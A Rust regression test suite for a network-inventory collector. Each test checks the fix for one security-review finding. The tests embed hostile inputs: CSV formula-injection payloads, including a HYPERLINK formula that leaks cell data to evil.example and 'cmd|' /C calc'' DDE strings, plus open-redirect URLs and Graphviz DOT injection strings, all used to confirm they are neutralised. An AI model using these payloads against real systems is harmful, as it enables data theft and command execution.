//! Regression tests of the adversarial review (issue "Hostile LAN, curious users"), one
//! per finding, each named after it, against a real collector: CSV formula injection in
//! every CSV, the open redirect after login, DOT escaping checked by Graphviz itself, the
//! check-in 404 that listed obligations, file modes whatever the umask, `no-store` on
//! private answers, and `/metrics` closed by default.

#![allow(
    clippy::unwrap_used,
    reason = "test code: a panic is the failure report"
)]

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use simpul_e2e::curl::{csv_rows, curl, is_formula, login, post_login};
use simpul_e2e::{agent_id, checkin, lan, lan_device, need, post, report, send, Collector};

/// Strings an agency LAN or a backup job controls, shaped as spreadsheet formulas.
/// (A cell starting with a tab or carriage return is neutralised too, see the unit test
/// in collector/src/csv.rs; reports refuse control characters in names.)
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

const TABLES: &str = r#"
[[sla_classes]]
id = "colocation-gold"
target_percent = 99.9

[[host_sla]]
agency = "dinkes"
host = "web-01"
sla = "colocation-gold"

[[backups]]
id = "dinkes-simpus"
agency = "dinkes"
dataset = "SIMPUS database"
interval = "24h"
evidence = "checkin"
"#;

/// A LAN section on 10.20.0.0/24 with one host per (id, name, vendor).
fn lan_of(devices: &[(&str, &str, &str)]) -> serde_json::Value {
    let devs = devices
        .iter()
        .map(|(id, name, vendor)| {
            let mut d = lan_device(id, "host", name);
            d["vendor"] = (*vendor).into();
            d
        })
        .collect();
    lan("10.20.0.0/24", devs)
}

/// A Diskominfo admin with a generated password; returns the password.
fn add_admin(c: &Collector, name: &str) -> String {
    let (code, pw, err) = c.cli(&["user", "add", name, "--role", "admin"]);
    assert_eq!(code, 0, "{err}");
    pw.trim().to_owned()
}

#[test]
fn csv_formula_injection_is_neutralised_in_every_csv() {
    let c = Collector::start_full("", TABLES);
    let token = c.enrol("dinkes", "web-01", Some("pusat-data"));
    let mut r = report(&agent_id(&token), "web-01", 1);
    let devices: Vec<(String, &str, &str)> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, f)| (format!("ip:10.20.0.{}", i + 10), *f, *f))
        .collect();
    let refs: Vec<(&str, &str, &str)> = devices
        .iter()
        .map(|(a, b, d)| (a.as_str(), *b, *d))
        .collect();
    r["lan"] = lan_of(&refs);
    send(&c, &token, &r);
    // a backup job's check-in message reaches the backups CSV
    checkin(
        &c,
        "dinkes-simpus",
        serde_json::json!({"status": "fail", "message": FORMULAS[0]})
            .to_string()
            .as_bytes(),
    );
    let pw = add_admin(&c, "supervisor");
    let session = login(&c, "supervisor", &pw);
    let (_, reader, err) = c.cli(&["user", "token", "supervisor"]);
    assert!(!reader.trim().is_empty(), "{err}");
    let bearer = format!("Authorization: Bearer {}", reader.trim());
    let mut seen_neutralised = 0;
    for (path, auth) in [
        ("/inventory.csv", &session),
        ("/scorecard.csv", &session),
        ("/sla.csv", &session),
        ("/backups.csv", &session),
        ("/api/v1/backups?format=csv", &bearer),
        ("/api/v1/sla?format=csv", &bearer),
        ("/api/v1/lan?format=csv", &bearer),
    ] {
        let a = curl(&c.url(path), "GET", &[auth], "");
        let (code, head, body) = (a.status, a.head, a.body);
        assert_eq!(code, 200, "{path}: {body}");
        assert!(head.contains("text/csv"), "{path}: {head}");
        let rows = csv_rows(&body);
        assert!(rows.len() > 1, "{path}: no rows in {body}");
        for cell in rows.iter().flatten() {
            assert!(
                !is_formula(cell),
                "{path}: formula cell {cell:?} in\n{body}"
            );
            if FORMULAS.iter().any(|f| cell == &format!("'{f}")) {
                seen_neutralised += 1;
            }
        }
    }
    // the hostile names are there, neutralised: names and vendors of 4 devices in the
    // inventory
    assert!(
        seen_neutralised >= 8,
        "{seen_neutralised} neutralised cells"
    );
}

#[test]
fn open_redirect_after_login_is_refused() {
    let c = Collector::start("");
    let pw = add_admin(&c, "supervisor");
    // the login form carries only a same-origin path onwards
    let form = curl(&c.url("/login?next=/%09/evil.example"), "GET", &[], "");
    let (code, body) = (form.status, form.body);
    assert_eq!(code, 200);
    assert!(body.contains(r#"name="next" value="/""#), "{body}");
    for evil in [
        "%2F%09%2Fevil.example",
        "%2F%2Fevil.example",
        "%2F%5Cevil.example",
        "%2F%250a%2Fevil.example",
        "https%3A%2F%2Fevil.example",
    ] {
        let a = post_login(&c, "supervisor", &pw, evil);
        let (code, head) = (a.status, a.head);
        assert_eq!(code, 303, "{evil}: {head}");
        assert!(
            head.lines().any(|l| l.trim() == "location: /"),
            "{evil}: {head}"
        );
    }
}

#[test]
fn dot_export_escapes_backslashes_and_quotes() {
    let c = Collector::start("");
    let token = c.enrol("dinkes", "opd-agent", Some("kantor-dinkes"));
    let hostile = [
        ("ip:10.20.0.1", "trailing\\", "v\\"),
        ("ip:10.20.0.2\\", "q\\\"]; evil [label=\"x", "\"quoted\""),
        ("ip:10.20.0.3", "line\\", "\\\\\\"),
        ("ip:10.20.0.4", "\\N \\G \\l", "<b>html</b>"),
        ("mac:02:00:00:00:00:05", "}; digraph evil {", "\\\\"),
    ];
    let mut r = report(&agent_id(&token), "opd-agent", 1);
    r["lan"] = lan_of(&hostile);
    r["lan"]["topology"]["links"] = serde_json::json!([{
        "a": {"device": "ip:10.20.0.1", "port": "ge-0/0/1\\"},
        "b": {"device": "mac:02:00:00:00:00:05", "port": "\"eth0\""},
        "source": "lldp"
    }]);
    send(&c, &token, &r);
    let (code, dot) = simpul_e2e::get(&c.url("/api/v1/agencies/dinkes/lan.dot"));
    assert_eq!(code, 200, "{dot}");
    let mut child = Command::new(need("dot"))
        .arg("-Tplain")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(dot.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let plain = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "Graphviz refused the export:\n{}\n{dot}",
        String::from_utf8_lossy(&out.stderr)
    );
    let nodes = plain.lines().filter(|l| l.starts_with("node ")).count();
    let edges = plain.lines().filter(|l| l.starts_with("edge ")).count();
    assert_eq!(nodes, hostile.len(), "one node per device:\n{plain}\n{dot}");
    assert_eq!(edges, 1, "{plain}");
    assert!(!plain.contains("node evil"), "{plain}");
}

#[test]
fn check_in_404_does_not_list_obligations() {
    let c = Collector::start_full("", TABLES);
    let (code, body) = post(
        &c.url("/api/v1/backups/nope/checkin"),
        &[("authorization", "Bearer smb1_guess")],
        br#"{"status":"ok"}"#,
    );
    assert_eq!(code, 404, "{body}");
    assert!(!body.contains("dinkes-simpus"), "{body}");
    // a declared obligation with a wrong token answers the same: existence is not told
    let (code, known) = post(
        &c.url("/api/v1/backups/dinkes-simpus/checkin"),
        &[("authorization", "Bearer smb1_guess")],
        br#"{"status":"ok"}"#,
    );
    assert_eq!(code, 404, "{known}");
    assert_eq!(known.replace("dinkes-simpus", "nope"), body);
    // an agency user asking for another agency's history learns nothing either
    let (code, body) = simpul_e2e::get(&c.url("/api/v1/backups/nope/history"));
    assert_eq!(code, 404);
    assert!(!body.contains("dinkes-simpus"), "{body}");
}

#[test]
fn data_directory_and_database_are_private_whatever_the_umask() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("fresh/data");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "umask 000 && {} user add ops --role admin --data-dir {}",
            simpul_e2e::bin("simpul-collector").display(),
            data.display()
        ))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&data), 0o700, "data directory");
    for entry in std::fs::read_dir(&data).unwrap() {
        let p = entry.unwrap().path();
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
    assert!(data.join("simpul.db").exists());
    // a database left world-readable by an older version loses others' access
    std::fs::set_permissions(
        data.join("simpul.db"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let out = Command::new(simpul_e2e::bin("simpul-collector"))
        .args(["agent", "list", "--data-dir"])
        .arg(&data)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_eq!(mode(&data.join("simpul.db")), 0o640);
}

#[test]
fn private_answers_are_not_cached() {
    let c = Collector::start("");
    let token = c.enrol("dinkes", "opd-agent", Some("kantor-dinkes"));
    let mut r = report(&agent_id(&token), "opd-agent", 1);
    r["lan"] = lan_of(&[("ip:10.20.0.1", "pc-01", "")]);
    send(&c, &token, &r);
    let (_, admin, _) = c.cli(&["admin", "add", "--name", "cache check"]);
    let auth = format!("Authorization: Bearer {}", admin.trim());
    for path in [
        "/api/v1/hosts",
        "/api/v1/sla?format=csv",
        "/api/v1/agencies/dinkes/lan.svg",
        "/api/v1/agencies/dinkes/lan.dot",
        "/metrics",
    ] {
        let a = curl(&c.url(path), "GET", &[&auth], "");
        let (code, head) = (a.status, a.head);
        assert_eq!(code, 200, "{path}");
        assert!(head.contains("cache-control: no-store"), "{path}: {head}");
    }
}

#[test]
fn metrics_needs_a_scrape_token_by_default() {
    let c = Collector::start("");
    let metrics = c.url("/metrics");
    let (code, body) = simpul_e2e::get_anonymous(&metrics);
    assert_eq!(code, 401, "{body}");
    assert!(body.contains("scrape-token add"), "{body}");
    let scrape = c.scrape_token();
    assert!(scrape.starts_with("sms1_"), "{scrape}");
    let with = |token: &str, url: &str| {
        simpul_e2e::request(
            "GET",
            url,
            &[("authorization", &format!("Bearer {token}"))],
            b"",
        )
    };
    let (code, body) = with(&scrape, &metrics);
    assert_eq!(code, 200);
    assert!(body.contains("simpul_ingest_reports_stored_total"));
    // it reads /metrics and nothing else
    assert_eq!(with(&scrape, &c.url("/api/v1/hosts")).0, 401);
    // listed, and refused once revoked
    let (code, list, _) = c.cli(&["scrape-token", "list"]);
    assert_eq!(code, 0);
    let id = scrape.split('_').nth(1).unwrap();
    assert!(
        list.lines()
            .any(|l| l.starts_with(id) && l.ends_with("active")),
        "{list}"
    );
    let (code, _, err) = c.cli(&["scrape-token", "revoke", id]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(with(&scrape, &metrics).0, 401);
    let (code, _, err) = c.cli(&["scrape-token", "revoke", id]);
    assert_eq!(code, 2, "revoking twice names the mistake");
    assert!(err.contains("no active scrape token"), "{err}");
    // metrics_auth = false opens it, as a deliberate choice
    let open = Collector::start("metrics_auth = false");
    assert_eq!(simpul_e2e::get_anonymous(&open.url("/metrics")).0, 200);
}

#[test]
fn backup_evidence_is_bound_to_the_reporting_agents_agency() {
    let c = Collector::start_full(
        "",
        r#"
[[backups]]
id = "dinkes-simpus"
agency = "dinkes"
dataset = "SIMPUS database"
interval = "24h"

[[backups]]
id = "dinkes-arsip"
agency = "dinkes"
dataset = "Arsip di server cadangan Pusat Data"
interval = "24h"
reporters = ["diskominfo/backup-01"]
"#,
    );
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs_f64();
    let ev = |ob: &str| {
        serde_json::json!({"obligation": ob, "kind": "files", "latest_time_seconds": now - 60.0,
            "latest_size_bytes": 5000, "latest_name": "x.tar", "count": 1, "total_size_bytes": 5000})
    };
    let state = |ob: &str| -> serde_json::Value {
        let (_, body) = simpul_e2e::get(&c.url("/api/v1/backups"));
        let all: Vec<serde_json::Value> = serde_json::from_str(&body).unwrap();
        all.into_iter().find(|s| s["id"] == ob).unwrap()
    };
    // another agency's agent posts evidence for dinkes' obligation and for one that
    // does not exist: its heartbeat is stored, the evidence is not, and the answer says so
    let other = c.enrol("diskominfo", "web-01", Some("pusat-data"));
    let mut r = report(&agent_id(&other), "web-01", 1);
    r["backups"] = serde_json::json!([ev("dinkes-simpus"), ev("no-such-obligation")]);
    let (code, body) = post(
        &c.url("/api/v1/reports"),
        &[
            ("authorization", &format!("Bearer {other}")),
            ("simpul-accept-refused", "1"),
        ],
        &serde_json::to_vec(&r).unwrap(),
    );
    assert_eq!(code, 200, "{body}");
    let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(answer["acknowledged"], serde_json::json!([1]), "{body}");
    let refused = answer["refused"].to_string();
    assert!(
        refused.contains("dinkes-simpus") && refused.contains("no-such-obligation"),
        "{body}"
    );
    assert_eq!(c.stored_reports(), 1, "the heartbeat is stored");
    assert_eq!(c.count("SELECT count(*) FROM backup_evidence"), 0);
    assert_eq!(state("dinkes-simpus")["state"], "never_seen");
    let m = c.metrics();
    assert_eq!(
        simpul_e2e::sample(
            &m,
            "simpul_ingest_backup_evidence_refused_total{reason=\"other_agency\"}"
        ),
        Some(1.0),
        "{m}"
    );
    assert_eq!(
        simpul_e2e::sample(
            &m,
            "simpul_ingest_backup_evidence_refused_total{reason=\"unknown_obligation\"}"
        ),
        Some(1.0)
    );
    // dinkes' own agent may, and so may the shared backup server its obligation names
    let own = c.enrol("dinkes", "opd-01", Some("kantor-dinkes"));
    let mut r = report(&agent_id(&own), "opd-01", 1);
    r["backups"] = serde_json::json!([ev("dinkes-simpus")]);
    send(&c, &own, &r);
    assert_eq!(state("dinkes-simpus")["state"], "ok");
    let shared = c.enrol("diskominfo", "backup-01", Some("pusat-data"));
    let mut r = report(&agent_id(&shared), "backup-01", 1);
    r["backups"] = serde_json::json!([ev("dinkes-arsip")]);
    send(&c, &shared, &r);
    let s = state("dinkes-arsip");
    assert_eq!(s["state"], "ok", "{s}");
    // dinkes' backup history never names another agency's host
    let (code, history) = simpul_e2e::get(&c.url("/api/v1/backups/dinkes-arsip/history"));
    assert_eq!(code, 200);
    assert!(!history.contains("backup-01"), "{history}");
    assert!(history.contains("host of diskominfo"), "{history}");
    assert!(!s.to_string().contains("backup-01"), "{s}");
}

/// `unsafe` code is denied in the whole workspace (Cargo.toml's lints) and allowed in
/// one module only: the agent's two calls into the C library that give memory back
/// (agent/src/resident.rs). Any other module that allows it must be looked at first.
#[test]
fn unsafe_code_is_allowed_in_one_module_only() {
    fn scan(dir: &std::path::Path, root: &std::path::Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            let p = e.path();
            let name = e.file_name();
            if p.is_dir() {
                if name != "target" && name != ".git" {
                    scan(&p, root, out);
                }
            } else if p.extension().is_some_and(|x| x == "rs") {
                let text = std::fs::read_to_string(&p).unwrap();
                if text.contains(concat!("allow(", "unsafe_code)")) {
                    out.push(p.strip_prefix(root).unwrap().display().to_string());
                }
            }
        }
    }
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap();
    let mut found = Vec::new();
    scan(root, root, &mut found);
    assert_eq!(found, ["agent/src/resident.rs"]);
    let lints = std::fs::read_to_string(root.join("Cargo.toml")).unwrap();
    assert!(
        lints.contains("unsafe_code = \"deny\""),
        "the workspace denies unsafe code"
    );
}
